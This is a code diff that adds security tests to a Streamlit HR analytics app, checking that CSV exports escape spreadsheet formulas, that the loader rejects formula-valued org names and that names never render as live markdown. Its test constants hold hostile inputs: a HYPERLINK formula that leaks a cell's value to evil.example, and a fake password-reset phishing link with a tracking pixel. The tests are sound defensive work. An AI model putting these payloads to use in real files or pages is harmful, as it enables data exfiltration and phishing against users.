@@ -4,6 +4,7 @@ nothing but the text itself."""
 
 from __future__ import annotations
 
+import re
 import shutil
 from datetime import date, timedelta
 
@@ -11,6 +12,7 @@ import duckdb
 import pytest
 
 from tests.apptest import app_as, assert_no_exception
+from tests.ingest_helpers import FIXTURES
 from tests.survey_helpers import (
     ADMIN,
     HR_ALPHA,
@@ -187,3 +189,121 @@ def test_hostile_comment_through_the_survey_form_is_stored_verbatim(hostile_app,
     assert stored == [(payload,)]
     assert con.execute("SELECT count(*) FROM stg_survey_answers").fetchall()[0][0] > 0
     con.close()
+
+
+# ------------------------------------------------------------- inert text (issue 13, finding 9)
+
+FORMULA_USERNAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'
+PHISHING = "[Reset your password](https://evil.example/reset) ![x](https://evil.example/pixel.png)"
+
+
+@pytest.fixture
+def downloads(monkeypatch):
+    """The bytes of every file the app offers for download in this test (the CSVs themselves)."""
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    captured: list[bytes] = []
+    original = MemoryMediaFileStorage.load_and_get_id
+
+    def capture(self, path_or_data, mimetype, kind, filename=None):
+        if isinstance(path_or_data, bytes) and mimetype == "text/csv":
+            captured.append(path_or_data)
+        return original(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", capture)
+    return captured
+
+
+def test_a_formula_typed_as_a_username_is_inert_in_the_audit_csv(hostile_app, downloads):
+    at = app_as(None)
+    at.text_input[0].input(FORMULA_USERNAME)
+    at.text_input[1].input("whatever")
+    at.button[0].click().run()
+    assert_no_exception(at)
+    page = app_as("admin", "audit_log")
+    assert_no_exception(page)
+    import csv
+    import io
+
+    cells = [cell for blob in downloads for row in csv.reader(io.StringIO(blob.decode("utf-8"))) for cell in row]
+    assert any(FORMULA_USERNAME in cell for cell in cells), "the failed sign-in is in the downloaded log"
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
+                or (cell.startswith("-") and not _is_number(cell))]
+    assert "'" + FORMULA_USERNAME in cells
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_every_csv_download_escapes_formulas():
+    import pandas as pd
+
+    from ui import downloads as ui_downloads
+    from workforce import inert
+
+    frame = pd.DataFrame({"name": ["=1+2", "+cmd", "@SUM(A1)", "-2+3", "\tx", "ok", "-3.5"], "n": range(7)})
+    text = inert.inert_csv(frame).decode("utf-8").splitlines()
+    assert text[1:] == ["'=1+2,0", "'+cmd,1", "'@SUM(A1),2", "'-2+3,3", "'\tx,4", "ok,5", "-3.5,6"]
+    assert ui_downloads.csv_bytes is inert.inert_csv  # the one helper every download uses
+
+
+def _sample_with_org(tmp_path, org: str, fmt: str):
+    """sample_data/ copied, with one person's org renamed; job_history written as `fmt`."""
+    from workforce.db import SAMPLE_DATA_DIR
+
+    folder = tmp_path / f"export_{fmt}"
+    folder.mkdir()
+    for path in SAMPLE_DATA_DIR.glob("*.parquet"):
+        if path.stem != "job_history":
+            shutil.copy(path, folder / path.name)
+    con = duckdb.connect()
+    con.execute(f"CREATE TABLE jh AS SELECT * FROM read_parquet('{SAMPLE_DATA_DIR / 'job_history.parquet'}')")
+    con.execute("UPDATE jh SET org = ? WHERE employee_id = (SELECT min(employee_id) FROM jh)", [org])
+    target = folder / f"job_history.{fmt}"
+    con.execute(f"COPY jh TO '{target}' (FORMAT {'csv, HEADER' if fmt == 'csv' else 'parquet'})")
+    con.close()
+    return folder
+
+
+@pytest.mark.parametrize("fmt", ["csv", "parquet"])
+def test_command_line_loader_and_data_page_reject_the_same_formula_names(tmp_path, fmt):
+    from etl import ingest
+
+    folder = _sample_with_org(tmp_path, "=HYPERLINK(\"http://evil.example\",\"Org\")", fmt)
+    db_path = tmp_path / "target.duckdb"
+    messages: list[str] = []
+    code = ingest.cli_load(folder, db_path, tmp_path / "k.key", quiet=True, print_fn=messages.append)
+    assert code == 1, "the command line refuses the file"
+    assert not db_path.exists() or duckdb.connect(str(db_path)).execute(
+        "SELECT count(*) FROM information_schema.tables WHERE table_name = 'stg_job_history'").fetchall()[0][0] == 0
+    page = ingest.ingest_files(sorted(folder.iterdir()), tmp_path / "page.duckdb", user="admin", dry_run=True)
+    assert page.status == "rejected"
+    assert any("formula injection" in p.rule and p.column == "org" for p in page.problems), page.problems
+
+
+_LIVE_MARKUP = re.compile(r"(?<!\\)\]\(|(?<!\\)!\[|(?<!\\)<[a-z]|https?://")
+
+
+def test_names_and_file_names_never_render_as_markdown(hostile_app):
+    """A display name, an org in an HR partner's scope and an uploaded file's name carrying a
+    phishing link and an external image are shown as text wherever markdown is read."""
+    con = duckdb.connect(str(hostile_app))
+    con.execute("UPDATE app_users SET display_name = ? WHERE username IN ('admin', 'hr')", [PHISHING])
+    con.execute("INSERT INTO app_user_scopes VALUES ('hr', ?)", [PHISHING])
+    con.close()
+    at = app_as("hr", "overview")
+    assert_no_exception(at)
+    markup = _rendered_markup(at) + " ".join(str(e.value) for e in at.sidebar.get("caption"))
+    assert "Reset your password" in markup  # the names are there, as text
+    assert not _LIVE_MARKUP.search(markup), markup
+    page = app_as("admin", "data_admin")
+    export = (FIXTURES / "claude_code_analytics.json").read_bytes()
+    page.file_uploader[0].set_value([(PHISHING + ".json", export, "application/json")]).run()
+    assert_no_exception(page)
+    labels = " ".join(str(e.proto.label) for e in page.get("expandable")) + _rendered_markup(page)
+    assert not _LIVE_MARKUP.search(labels), labels
